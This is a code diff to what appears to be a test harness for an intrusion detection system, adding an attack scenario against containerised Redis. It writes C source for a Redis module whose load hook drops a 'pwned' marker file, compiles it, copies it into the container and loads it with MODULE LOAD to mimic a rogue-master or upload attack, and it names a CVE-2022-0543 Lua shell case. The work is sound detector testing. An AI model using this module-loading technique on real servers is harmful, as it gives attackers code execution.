@@ -63,6 +63,8 @@ RUN_ID = "%x" % (int(time.time()) & 0xFFFFFF)
 # Every container of this run carries its run id: a cleanup removes this run's containers only,
 # never those of another run going on at the same time (one did, and ended a soak).
 LABEL = "ngram-ids.live=" + RUN_ID
+# Scratch files of this run (the attacker's Redis module).
+WORK = os.path.join("/tmp", "ngram-live-" + RUN_ID)
 
 
 class HarnessError(Exception):
@@ -779,6 +781,30 @@ class RedisError(str):
     pass
 
 
+MODULE_SRC = r"""
+#include <fcntl.h>
+#include <unistd.h>
+int RedisModule_OnLoad(void *ctx, void **argv, int argc) {
+    (void)ctx; (void)argv; (void)argc;
+    int fd = open("/tmp/module-ran", O_WRONLY | O_CREAT, 0644);
+    if (fd >= 0) { write(fd, "pwned\n", 6); close(fd); }
+    return 1; /* REDISMODULE_ERR: the code ran, the module does not stay */
+}
+"""
+
+
+def module_object():
+    """The attacker's Redis module (built once with the host's cc), its path."""
+    out = os.path.join(WORK, "redis-mod.so")
+    if not os.path.exists(out):
+        os.makedirs(WORK, exist_ok=True)
+        src = os.path.join(WORK, "redis-mod.c")
+        with open(src, "w") as f:
+            f.write(MODULE_SRC)
+        sh(["cc", "-shared", "-fPIC", "-O2", "-o", out, src], timeout=120)
+    return out
+
+
 def redis_cmd(port, *args, timeout=30):
     try:
         r = Resp(port, timeout)
@@ -893,8 +919,13 @@ class RedisService:
             return created(c, path), repr(out)[:200]
 
         def module_load(port, c):
-            out = redis_cmd(port, "MODULE", "LOAD", "/var/lib/redis/.ssh/authorized_keys")
-            return out == "OK", repr(out)[:200]
+            # A real shared object whose RedisModule_OnLoad runs the attacker's code (it leaves
+            # /tmp/module-ran) and then fails to register, as a rogue-master or upload attack
+            # would drop it; staged with `docker cp` (not traced), loaded by MODULE LOAD.
+            so = module_object()
+            sh(["docker", "cp", so, c + ":/var/lib/redis/mod.so"], timeout=60)
+            out = redis_cmd(port, "MODULE", "LOAD", "/var/lib/redis/mod.so")
+            return created(c, "/tmp/module-ran"), repr(out)[:200]
 
         def lua_shell(port, c):
             # CVE-2022-0543 (Debian's Lua exposing package.loadlib): a shell from EVAL.
